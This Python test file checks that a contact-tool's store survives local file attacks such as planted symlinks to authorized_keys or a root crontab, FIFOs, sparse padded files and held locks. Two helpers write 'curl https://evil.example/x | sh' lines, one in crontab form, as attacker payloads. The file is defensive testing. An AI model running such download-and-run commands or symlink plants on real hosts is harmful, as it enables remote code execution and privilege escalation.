"""Attacks on the store's files by someone who can write to the store folder (everyone in the
store's group, on a shared host set up as the README says), each performed for real.

Planted symlinks where ``doctor --repair`` keeps damaged files aside, a symlinked or dangling
lock file, a FIFO or ``/dev/zero`` where the snapshot or journal should be, a lock held for
ever, hard links out of the folder and widened modes: none may write, chmod or create a file
outside the folder, hang a command, or exhaust memory. ``doctor --repair`` refuses root.
"""

from __future__ import annotations

import os
import pwd
import stat
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from contact_tui.cli.exits import EXIT_CONFIG, EXIT_UNREADABLE
from contact_tui.config import CONFIG_ENV
from contact_tui.store.doctor import Finding, diagnose
from contact_tui.store.errors import StoreUnavailable, StoreUnreadable, UnsafeStoreFile
from contact_tui.store.format import frame
from contact_tui.store.jsonstore import JsonStore
from contact_tui.store.safefs import MAX_FILE_BYTES
from tests.cli.runner import USER, Runner

ROOT = Path(__file__).resolve().parents[2]
PROMPT = 10.0  # seconds: "returns promptly" on a loaded 2-core machine; a hang is for ever


def doc(cid: str) -> dict[str, Any]:
    return {"id": cid, "type": "Curated", "firstName": "Sam", "lastName": f"Lee {cid}"}


def put(store: JsonStore, *ids: str) -> None:
    for cid in ids:
        with store.transaction("alice") as tx:
            tx.put("contacts", cid, doc(cid))


def messages(findings: list[Finding], level: str) -> list[str]:
    return [f.message for f in findings if f.level == level]


def store_with_backup(path: Path) -> None:
    """A store with a backup from a compaction and two records in its journal since."""
    store = JsonStore(path)
    put(store, "c0", "c1")
    store.compact()
    put(store, "c2", "c3")
    store.close()


def victim_file(tmp_path: Path, name: str = "authorized_keys") -> Path:
    """A 0600 file outside the store folder, in a folder only its owner may enter."""
    home = tmp_path / "home"
    home.mkdir(mode=0o700, exist_ok=True)
    victim = home / name
    victim.write_bytes(b"ssh-ed25519 AAAA... supervisor@host\n")
    victim.chmod(0o600)
    return victim


def state_of(path: Path) -> tuple[int, bytes] | None:
    """A file's mode and content, or None when it does not exist (not even as a symlink)."""
    if not os.path.lexists(path):
        return None
    st = path.lstat()
    return stat.S_IMODE(st.st_mode), path.read_bytes()


def folder_state(folder: Path) -> dict[str, tuple[int, int, bytes | str]]:
    """Every entry of a folder: its mode, link count and content (a symlink's target)."""
    out: dict[str, tuple[int, int, bytes | str]] = {}
    for entry in sorted(folder.iterdir()):
        st = entry.lstat()
        content: bytes | str = os.readlink(entry) if entry.is_symlink() else entry.read_bytes()
        out[entry.name] = (st.st_mode, st.st_nlink, content)
    return out


def spoil_journal(store_path: Path) -> bytes:
    """Append one garbage line to the journal, as the attacker does; the journal's bytes."""
    journal = store_path.with_name("store.json.journal")
    with open(journal, "ab") as f:
        f.write(b"#!/bin/sh\ncurl https://evil.example/x | sh\n")
    return journal.read_bytes()


# --- 1. doctor --repair never writes through a planted symlink ---------------------------------


@pytest.mark.parametrize("victim_exists", [True, False], ids=["existing", "dangling"])
def test_a_planted_journal_damaged_link_is_not_written_through(
    store_path: Path, tmp_path: Path, victim_exists: bool
) -> None:
    store_with_backup(store_path)
    damaged = spoil_journal(store_path)
    victim = victim_file(tmp_path, ".bash_profile")
    if not victim_exists:
        victim.unlink()
    before = state_of(victim)
    planted = store_path.with_name("store.json.journal.damaged-1")
    planted.symlink_to(victim)

    findings = diagnose(store_path, repair=True)

    assert state_of(victim) == before, "the repair wrote through the planted symlink"
    assert planted.is_symlink() and os.readlink(planted) == str(victim)
    kept = store_path.with_name("store.json.journal.damaged-2")
    assert kept.read_bytes() == damaged and not kept.is_symlink()
    assert any(str(kept) in m for m in messages(findings, "ok")), findings
    assert sorted(JsonStore(store_path).table_ids("contacts")) == ["c0", "c1", "c2", "c3"]


def test_a_planted_snapshot_damaged_link_is_not_written_through(
    store_path: Path, tmp_path: Path
) -> None:
    """The snapshot route: the attacker writes store.json and plants store.json.damaged-1
    pointing into a folder only root may write; root's repair used to copy it there."""
    store_with_backup(store_path)
    attacker_bytes = b"* * * * * root curl https://evil.example/x | sh\n"
    store_path.write_bytes(attacker_bytes)
    locked_away = tmp_path / "root-only"
    locked_away.mkdir(mode=0o700)
    target = locked_away / "crontab"
    planted = [
        store_path.with_name("store.json.damaged-1"),
        store_path.with_name("store.json.journal.damaged-1"),
    ]
    for link in planted:
        link.symlink_to(target)

    findings = diagnose(store_path, repair=True)

    assert not os.path.lexists(target), "the repair created the attacker's file"
    assert not messages(findings, "error"), findings
    assert store_path.with_name("store.json.damaged-2").read_bytes() == attacker_bytes
    assert all(link.is_symlink() for link in planted)
    assert sorted(JsonStore(store_path).table_ids("contacts")) == ["c0", "c1", "c2", "c3"]


def test_a_symlink_where_a_store_file_should_be_is_reported_and_never_followed(
    store_path: Path, tmp_path: Path
) -> None:
    store_with_backup(store_path)
    victim = victim_file(tmp_path)
    before = state_of(victim)
    backup = store_path.with_name("store.json.bak")
    backup.unlink()
    backup.symlink_to(victim)
    store_path.write_bytes(b"{damaged")  # so that a repair would want the backup

    findings = diagnose(store_path, repair=True)

    errors = " ".join(messages(findings, "error"))
    assert f"{backup} is a symbolic link to '{victim}', not a regular file" in errors
    assert state_of(victim) == before
    assert store_path.read_bytes() == b"{damaged"


# --- 3. the lock file: never followed, never chmodded unless just made -------------------------


def test_a_lock_symlinked_to_another_users_file_changes_nothing(
    store_path: Path, tmp_path: Path, run: Runner, config: Path
) -> None:
    JsonStore(store_path).close()
    lock = store_path.with_name("store.json.lock")
    lock.unlink()
    victim = victim_file(tmp_path)
    before = state_of(victim)
    lock.symlink_to(victim)

    with pytest.raises(UnsafeStoreFile) as caught:
        put(JsonStore(store_path), "c1")
    message = str(caught.value)
    assert f"{lock}: it is a symbolic link to '{victim}', not a regular file" in message
    assert message.endswith("then run 'contact-tui doctor'.")
    added = run("contact", "add", "--first", "Sam", "--last", "Lee")  # the daily cron job, too
    assert added.code == EXIT_UNREADABLE and str(lock) in added.err
    assert run("expire").code == EXIT_UNREADABLE
    checked = diagnose(store_path)  # plain doctor, as root in CI
    assert any(str(lock) in m and "symbolic link" in m for m in messages(checked, "error"))
    assert state_of(victim) == before, "the victim's mode or content changed"
    assert lock.is_symlink()


def test_a_dangling_lock_symlink_creates_nothing(store_path: Path, tmp_path: Path) -> None:
    target = tmp_path / "home" / "attacker-chosen"
    (tmp_path / "home").mkdir()
    lock = store_path.with_name("store.json.lock")
    lock.symlink_to(target)
    with pytest.raises(UnsafeStoreFile, match="symbolic link"):
        JsonStore(store_path)  # creating a store takes the lock first
    assert not store_path.exists()
    lock.unlink()
    store = JsonStore(store_path)
    lock.unlink()
    lock.symlink_to(target)
    with pytest.raises(UnsafeStoreFile):
        put(store, "c1")
    diagnose(store_path)
    assert not os.path.lexists(target)


# --- 8. no hang, no unbounded read ----------------------------------------------------------


def cli_process(config: Path, *args: str) -> tuple[subprocess.CompletedProcess[str], float]:
    """Run ``python -m contact_tui ARGS`` as a shell would; the result and seconds taken."""
    env = {k: v for k, v in os.environ.items() if k != "CONTACT_TUI_DEBUG"}
    env[CONFIG_ENV] = str(config)
    env["PYTHONPATH"] = str(ROOT)
    started = time.monotonic()
    done = subprocess.run(
        [sys.executable, "-m", "contact_tui", *args],
        env=env,
        cwd=config.parent,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    return done, time.monotonic() - started


@pytest.mark.parametrize("name", ["store.json", "store.json.journal"])
def test_a_fifo_in_place_of_a_store_file_hangs_no_command(config: Path, name: str) -> None:
    store_path = config.parent / "store.json"
    store = JsonStore(store_path)
    put(store, "c1")
    store.close()
    fifo = config.parent / name
    fifo.unlink()
    os.mkfifo(fifo, 0o660)
    for args in (("contact", "list"), ("contact", "add", "--first", "Kim"), ("doctor",)):
        done, took = cli_process(config, *args)
        assert took < PROMPT, f"{args} took {took:.1f} s"
        assert done.returncode == EXIT_UNREADABLE, (args, done.stderr, done.stdout)
        said = done.stderr + done.stdout
        assert f"{fifo} is a named pipe (FIFO), not a regular file" in said or (
            f"{fifo}: it is a named pipe (FIFO), not a regular file" in said
        ), said
        assert "Traceback" not in said
    refused, took = cli_process(config, "doctor", "--repair")
    assert took < PROMPT and refused.returncode in (EXIT_UNREADABLE, EXIT_CONFIG)
    assert stat.S_ISFIFO(fifo.lstat().st_mode)


def test_a_store_linked_to_dev_zero_is_refused_not_read(config: Path) -> None:
    store_path = config.parent / "store.json"
    store_path.symlink_to("/dev/zero")
    with pytest.raises(UnsafeStoreFile, match="symbolic link to '/dev/zero'"):
        JsonStore(store_path)
    done, took = cli_process(config, "contact", "list")
    assert took < PROMPT and done.returncode == EXIT_UNREADABLE
    assert "symbolic link to '/dev/zero'" in done.stderr
    errors = messages(diagnose(store_path), "error")
    assert any("symbolic link to '/dev/zero'" in m for m in errors)


@pytest.mark.parametrize("name", ["store.json", "store.json.journal"])
def test_a_store_file_over_the_size_bound_is_refused_before_reading(
    store_path: Path, name: str
) -> None:
    JsonStore(store_path).close()
    huge = store_path.with_name(name)
    with open(huge, "r+b") as f:
        f.truncate(MAX_FILE_BYTES + 1)  # sparse: no disk used, but reading it would be 512 MiB
    started = time.monotonic()
    with pytest.raises(StoreUnreadable) as caught:
        JsonStore(store_path)
    assert time.monotonic() - started < 1.0
    assert str(huge) in str(caught.value) and "MiB a store file may be" in str(caught.value)


@pytest.mark.parametrize("name", ["store.json", "store.json.journal"])
def test_a_store_file_padded_with_holes_is_refused_before_reading(
    store_path: Path, name: str
) -> None:
    # The review's attack: `truncate -s` under the bound costs no disk, yet every agent's
    # process would read (and parse) hundreds of megabytes of zeros.
    JsonStore(store_path).close()
    padded = store_path.with_name(name)
    with open(padded, "r+b") as f:
        f.truncate(MAX_FILE_BYTES - 1)
    started = time.monotonic()
    with pytest.raises(StoreUnreadable) as caught:
        JsonStore(store_path)
    assert time.monotonic() - started < 1.0
    assert str(padded) in str(caught.value) and "sparse file" in str(caught.value)


def test_a_journal_padded_with_holes_while_a_process_follows_it_is_refused(
    store_path: Path,
) -> None:
    store = JsonStore(store_path)
    try:
        with open(store_path.with_name("store.json.journal"), "r+b") as f:
            f.truncate(MAX_FILE_BYTES - 1)
        with pytest.raises(StoreUnreadable, match="sparse file"):
            store.refresh()
    finally:
        store.close()


@pytest.fixture
def lock_held_elsewhere(store_path: Path) -> Iterator[subprocess.Popen[bytes]]:
    """A process that is not contact-tui holding the store's lock for ever (``flock``)."""
    JsonStore(store_path).close()
    code = (
        "import fcntl, os, sys, time; fd = os.open(sys.argv[1], os.O_RDWR);"
        "fcntl.flock(fd, fcntl.LOCK_EX); print('held', flush=True); time.sleep(60)"
    )
    lock = str(store_path.with_name("store.json.lock"))
    holder = subprocess.Popen([sys.executable, "-c", code, lock], stdout=subprocess.PIPE)
    assert holder.stdout is not None
    assert holder.stdout.readline().strip() == b"held"
    yield holder
    holder.kill()
    holder.wait()
    holder.stdout.close()


def test_a_lock_held_by_another_process_names_it_and_doctor_returns(
    store_path: Path, lock_held_elsewhere: subprocess.Popen[bytes]
) -> None:
    pid = lock_held_elsewhere.pid
    with pytest.raises(StoreUnavailable) as caught:
        put(JsonStore(store_path, lock_timeout=0.2), "c1")
    message = str(caught.value)
    assert message.startswith(f"The store is busy: process {pid} (user {USER}, command '")
    assert "fcntl" in message  # the holder's command line
    started = time.monotonic()
    warned = messages(diagnose(store_path), "warning")
    assert time.monotonic() - started < PROMPT
    assert any(f"process {pid} (user {USER}" in m for m in warned), warned


def test_a_busy_lock_is_named_through_the_command_line_too(
    store_path: Path, config: Path, lock_held_elsewhere: subprocess.Popen[bytes]
) -> None:
    done, took = cli_process(config, "doctor")
    assert took < PROMPT
    assert f"process {lock_held_elsewhere.pid} (user {USER}" in done.stdout


# --- root: doctor --repair refuses, plain doctor only reads ------------------------------------


def test_doctor_repair_refuses_to_run_as_root(
    run: Runner, config: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    store_path = config.parent / "store.json"
    store_with_backup(store_path)
    store_path.write_bytes(b"{damaged")
    before = folder_state(config.parent)
    if os.geteuid() == 0:
        os.chown(config.parent, 65534, -1)  # a store folder owned by an ordinary user
    owner = pwd.getpwuid(config.parent.stat().st_uid).pw_name
    monkeypatch.setattr(os, "geteuid", lambda: 0)

    refused = run("doctor", "--repair")

    assert refused.code == EXIT_CONFIG
    assert refused.err.count("\n") == 1 and "does not run as root" in refused.err
    assert f"run it as the store's owner instead: sudo -u {owner} contact-tui doctor --repair" in (
        refused.err
    )
    assert folder_state(config.parent) == before


def test_plain_doctor_as_root_changes_nothing(store_path: Path, tmp_path: Path) -> None:
    store = JsonStore(store_path)
    put(store, "c1")
    store.close()
    orphan = store_path.with_name(".store.json.tmp-1-dead")
    orphan.write_bytes(b"half")
    store_path.with_name("store.json.lock").unlink()
    spoil_journal(store_path)
    before = folder_state(store_path.parent)
    findings = diagnose(store_path)
    assert messages(findings, "error")  # the damaged journal
    assert folder_state(store_path.parent) == before, "plain doctor changed the folder"


# --- 6. files the owner could widen ---------------------------------------------------------


def test_a_hard_link_out_of_the_folder_is_reported_and_stops_receiving_records(
    store_path: Path, tmp_path: Path
) -> None:
    store = JsonStore(store_path)
    put(store, "c1")
    journal = store_path.with_name("store.json.journal")
    outside = tmp_path / "kept"
    outside.mkdir()
    stolen = outside / "journal"
    os.link(journal, stolen)
    warned = messages(diagnose(store_path), "warning")
    assert any(str(journal) in m and "1 hard link(s) outside its folder" in m for m in warned)
    put(store, "c2")  # this save moves the store to new files
    put(store, "c3")
    assert b'"c3"' not in stolen.read_bytes(), "the hard link still receives new records"
    assert journal.stat().st_nlink == 1 and store_path.stat().st_nlink == 1
    assert not any("outside its folder" in m for m in messages(diagnose(store_path), "warning"))
    assert sorted(JsonStore(store_path).table_ids("contacts")) == ["c1", "c2", "c3"]


def test_a_mode_widened_by_the_owner_is_reported_and_not_carried_over(store_path: Path) -> None:
    store = JsonStore(store_path)
    put(store, "c1")
    store_path.chmod(0o644)  # the file's owner can always do this
    warned = messages(diagnose(store_path), "warning")
    assert any(str(store_path) in m and "wider than its folder" in m for m in warned), warned
    store.compact()
    assert stat.S_IMODE(store_path.stat().st_mode) & 0o007 == 0


def test_a_journal_stale_name_planted_as_a_symlink_is_skipped(
    store_path: Path, tmp_path: Path
) -> None:
    """A compaction that died between its two renames leaves a journal a writer sets aside
    as ``.stale-N``; a symlink planted at that name is skipped, not written through."""
    JsonStore(store_path).close()
    journal = store_path.with_name("store.json.journal")
    victim = victim_file(tmp_path)
    before = state_of(victim)
    store_path.with_name("store.json.journal.stale-1").symlink_to(victim)
    # A journal of an older generation than the snapshot: what the crash leaves.
    journal.write_bytes(frame({"contactTuiJournal": 1, "generation": 0, "snapshot": [0, 0]}))
    put(JsonStore(store_path), "c2")
    assert state_of(victim) == before
    assert store_path.with_name("store.json.journal.stale-2").exists()
